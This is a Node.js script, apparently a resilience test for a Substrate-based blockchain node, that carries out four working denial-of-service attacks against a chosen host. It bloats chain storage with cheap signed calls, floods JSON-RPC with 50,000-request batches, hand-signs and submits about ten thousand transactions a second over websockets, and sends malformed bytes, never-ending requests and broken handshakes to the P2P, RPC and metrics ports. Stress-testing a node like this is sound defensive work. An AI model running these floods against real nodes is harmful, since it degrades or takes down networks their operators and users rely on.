// What an attacker does to a node. Each part goes on for so many seconds, and prints what it got done.
//
// node attack.js grow|batches|spam|garbage SECONDS HOST READY: makes the file READY when it has prepared all it needs,
// and begins.

import { u8aConcat, u8aToHex } from '@polkadot/util';
import { createPrivateKey, randomBytes, sign } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { connect as open } from 'node:net';
import { WebSocket } from 'ws';
import { UNIT, connect, key, main, say, send, sleep } from './client.js';

const [part, seconds, host, ready] = process.argv.slice(2);
const http = `http://${host}:9944`;
let over = 0;
const going = () => Date.now() < over;

/** All is prepared: the attack's time begins. */
function begin() {
    over = Date.now() + seconds * 1_000;
    writeFileSync(ready, '');
}

/** Tallies outcomes by their words. */
class Tally {
    #counts = new Map();

    add(outcome, times = 1) {
        this.#counts.set(outcome, (this.#counts.get(outcome) ?? 0) + times);
    }

    toString() {
        const sorted = [...this.#counts].toSorted((a, b) => b[1] - a[1]).slice(0, 6);
        return sorted.map(([outcome, times]) => `${times} ${outcome}`).join(', ') || 'nothing';
    }
}

/** Pays accounts of the attacker's own; gives them. */
async function fund(api, paths, each) {
    const accounts = paths.map(key);
    for (let at = 0; at < accounts.length; at += 100) {
        const pay = ({ address }) => api.tx.balances.transferKeepAlive(address, each);
        const calls = accounts.slice(at, at + 100).map(pay);
        await send(api, api.tx.utility.batchAll(calls), key('bob'));
    }
    return accounts;
}

/** Claims storage with whatever the runtime offers to anybody, as fast as blocks take it. */
async function grow() {
    const api = await connect(`ws://${host}:9944`);
    const claimers = await fund(api, Array.from({ length: 40 }, (_, k) => `grow//${process.pid}//${k}`), 100n * UNIT);
    const tally = new Tally();
    const { tx, genesisHash, runtimeVersion } = api;
    // Beneath the API, which prints each refusal.
    const { provider } = api._rpcCore;
    const fresh = () => u8aToHex(randomBytes(32));
    const transfer = () => tx.balances.transferKeepAlive(fresh(), UNIT / 1_000n);
    const transfers = tx.utility.batch(Array.from({ length: 50 }, transfer));
    const remarks = tx.utility.batch(Array.from({ length: 20 }, () => tx.system.remark('0x')));
    const nested = tx.utility.batch(Array.from({ length: 200 }, () => remarks));
    // Some are made anew each time, as each claims something else; the large ones are the same bytes again.
    const claims = [
        () => tx.multisig.approveAsMulti(2, [fresh()], null, fresh(), { refTime: 1, proofSize: 0 }),
        () => tx.proxy.addProxy(fresh(), 0, 0),
        () => tx.proxy.createPure(0, 0, Math.floor(Math.random() * 65_536)),
        () => tx.system.remarkWithEvent(u8aToHex(randomBytes(20_000))),
        () => tx.utility.batch(transfers.method.args[0]),
        () => tx.writers.apply('Grow', 'GBR', ['Workshop']),
        () => tx.utility.batch(nested.method.args[0]),
    ];
    const claim = async (who) => {
        const { nonce } = await api.query.system.account(who.address);
        for (let n = nonce.toNumber(), k = 0; going(); k++) {
            const call = claims[k % claims.length]();
            call.sign(who, { nonce: n, era: 0, blockHash: genesisHash, genesisHash, runtimeVersion });
            try {
                await provider.send('author_submitExtrinsic', [call.toHex()]);
                tally.add(`${call.method.section}.${call.method.method}`);
                n++;
            } catch (error) {
                tally.add(error.message.replace(/0x[0-9a-f]+/g, '').slice(0, 60));
                await sleep(1_000);
                n = (await api.rpc.system.accountNextIndex(who.address)).toNumber();
            }
        }
    };
    begin();
    await Promise.all(claimers.map(claim));
    say(`claims sent: ${tally}`);
}

/** Batches of 50,000 requests, four at a time, and what a single request takes meanwhile. */
async function batches() {
    const one = { jsonrpc: '2.0', method: 'vehicle_verify', params: ['WVWZZZ1JZXW000001', { records: [] }] };
    const body = JSON.stringify(Array.from({ length: 50_000 }, (_, id) => ({ ...one, id })));
    const health = '{"jsonrpc":"2.0","id":1,"method":"system_health","params":[]}';
    const tally = new Tally();
    const times = [];
    const post = async (text, wait) => {
        const signal = AbortSignal.timeout(wait);
        const headers = { 'Content-Type': 'application/json' };
        const answer = await fetch(http, { method: 'POST', headers, body: text, signal });
        return answer.text();
    };
    const flood = async () => {
        while (going()) {
            const text = await post(body, 120_000).catch(({ message }) => message);
            tally.add(text.length > 200 ? `answers of ${Math.round(text.length / 1_000)} kB` : text.slice(0, 80));
        }
    };
    const probe = async () => {
        while (going()) {
            const began = performance.now();
            const text = await post(health, 30_000).catch(() => '');
            times.push(text ? performance.now() - began : Infinity);
            await sleep(200);
        }
    };
    begin();
    await Promise.all([flood(), flood(), flood(), flood(), probe()]);
    times.sort((a, b) => a - b);
    say(`batches of 50,000: ${tally}`);
    const [median, worst] = [times[times.length >> 1], times.at(-1)].map(Math.round);
    say(`a single request meanwhile: ${median} ms at the median, ${worst} ms at most`);
}

/** Transactions by hand: the nonce is all that differs between those of one account, so the rest is made once. */
class Spammer {
    #secret;
    #public;

    constructor(seed) {
        // An ed25519 key as PKCS #8.
        const der = Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), seed]);
        this.#secret = createPrivateKey({ key: der, format: 'der', type: 'pkcs8' });
        this.#public = this.#secret.export({ format: 'jwk' }).x;
    }

    get account() {
        return new Uint8Array(Buffer.from(this.#public, 'base64url'));
    }

    prepare(api) {
        const call = api.tx.balances.transferKeepAlive(this.account, 1);
        const { genesisHash, runtimeVersion } = api;
        const payload = (nonce) => {
            const fields = { address: this.account, blockHash: genesisHash, era: '0x00', genesisHash, nonce, tip: 0 };
            const { specVersion, transactionVersion } = runtimeVersion;
            const all = { ...fields, method: call.method.toHex(), specVersion, transactionVersion };
            return api.registry.createType('ExtrinsicPayload', all, { version: 4 }).toU8a({ method: true });
        };
        this.call = call.method.toU8a();
        // Both nonces are a byte, so the one byte that differs is where it stands.
        const [zero, one] = [payload(0), payload(1)];
        const at = zero.findIndex((byte, k) => byte !== one[k]);
        this.before = zero.slice(0, at);
        this.after = zero.slice(at + 1);
        // What is signed beside the transaction's own bytes: two versions, genesis, birth block, no metadata digest.
        this.own = this.after.slice(0, this.after.length - (4 + 4 + 32 + 32 + 1));
    }

    transaction(nonce) {
        const compact = nonce < 64 ? Uint8Array.of(nonce << 2) : Uint8Array.of(((nonce & 0x3f) << 2) | 1, nonce >> 6);
        const signature = sign(null, u8aConcat(this.before, compact, this.after), this.#secret);
        const extra = u8aConcat(this.before.slice(this.call.length), compact, this.own);
        const body = u8aConcat([0x84, 0x00], this.account, [0x00], signature, extra, this.call);
        return Buffer.from(u8aConcat(Uint8Array.of(((body.length & 0x3f) << 2) | 1, body.length >> 6), body));
    }
}

/** Sends 10,000 valid transactions a second, as far as the node takes them in, over so many connections. */
async function spam(rate = 10_000, connections = 8) {
    const api = await connect(`ws://${host}:9944`);
    const spammers = Array.from({ length: 200 }, () => new Spammer(randomBytes(32)));
    for (let at = 0; at < spammers.length; at += 50) {
        const pay = ({ account }) => api.tx.balances.transferKeepAlive(account, 100n * UNIT);
        const calls = spammers.slice(at, at + 50).map(pay);
        await send(api, api.tx.utility.batchAll(calls), key('bob'));
    }
    for (const spammer of spammers) spammer.prepare(api);
    // Signed beforehand, round by round of the accounts: nonces are in order.
    const { length } = spammers;
    const nth = (k) => spammers[k % length].transaction(Math.floor(k / length));
    const all = Array.from({ length: rate * seconds }, (_, k) => nth(k));
    const tally = new Tally();
    begin();
    const began = Date.now();
    let sent = 0;
    let answered = 0;
    const flood = async () => {
        const socket = new WebSocket(`ws://${host}:9944`);
        await new Promise((resolve, reject) => socket.once('open', resolve).once('error', reject));
        socket.on('error', ({ message }) => tally.add(message));
        socket.on('message', (data) => {
            answered++;
            const { error } = JSON.parse(data);
            tally.add(error ? `"${error.message}${error.data ? `: ${error.data}` : ''}"`.slice(0, 70) : 'accepted');
        });
        while (going() && socket.readyState === WebSocket.OPEN) {
            const due = ((Date.now() - began) / 1_000) * rate;
            for (let k = 0; k < 50 && sent < Math.min(due, all.length); k++, sent++) {
                const words = `"jsonrpc":"2.0","id":${sent},"method":"author_submitExtrinsic"`;
                socket.send(`{${words},"params":["0x${all[sent].toString('hex')}"]}`);
            }
            // No more than the node reads: the rest would wait in this program's memory.
            while (socket.bufferedAmount > 1 << 20 && going()) await sleep(5);
            await sleep(0);
        }
        return socket;
    };
    const sockets = await Promise.all(Array.from({ length: connections }, flood));
    say(`${sent} transactions sent, ${Math.round(sent / seconds)} a second, ${answered} answered by then: ${tally}`);
    for (const socket of sockets) socket.terminate();
}

/** Garbage on every port: random bytes, requests that never end, handshakes that break off, frames without sense. */
async function garbage(ports = [30333, 9944, 9615]) {
    const tally = new Tally();
    const upgrade = 'GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
        'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n';
    const json = 'POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n';
    const openings = [
        () => randomBytes(4_096),
        () => Buffer.from(`GET / HTTP/1.1\r\nHost: x\r\nX: ${'a'.repeat(4_000)}`),
        () => Buffer.concat([Buffer.from('\x13/multistream/1.0.0\n\x07/noise\n'), randomBytes(1_024)]),
        () => Buffer.from('\x13/multistream/1.0.0\n'),
        () => Buffer.concat([Buffer.from(upgrade), randomBytes(2_048)]),
        () => Buffer.from(`${json}Content-Length: 9000000\r\n\r\n[`),
        () => Buffer.from(`${json}Content-Length: 60000\r\n\r\n${'['.repeat(60_000)}`),
    ];
    const pester = async (port, opening) => {
        while (going()) {
            await new Promise((resolve) => {
                const socket = open(port, host);
                const words = setInterval(() => socket.write(randomBytes(64)), 500);
                const done = (outcome) => {
                    clearInterval(words);
                    clearTimeout(enough);
                    socket.removeAllListeners('close').destroy();
                    tally.add(`${port} ${outcome}`);
                    resolve();
                };
                const enough = setTimeout(() => done('held open'), 5_000);
                socket.once('connect', () => socket.write(opening()));
                socket.once('error', ({ code }) => done(code));
                socket.once('close', () => done('closed by the node'));
                socket.resume();
            });
            await sleep(10);
        }
    };
    const each = (port) => openings.flatMap((opening) => Array.from({ length: 12 }, () => pester(port, opening)));
    begin();
    await Promise.all(ports.flatMap(each));
    say(`connections: ${tally}`);
}

await main({ grow, batches, spam: () => spam(), garbage: () => garbage() }[part]);
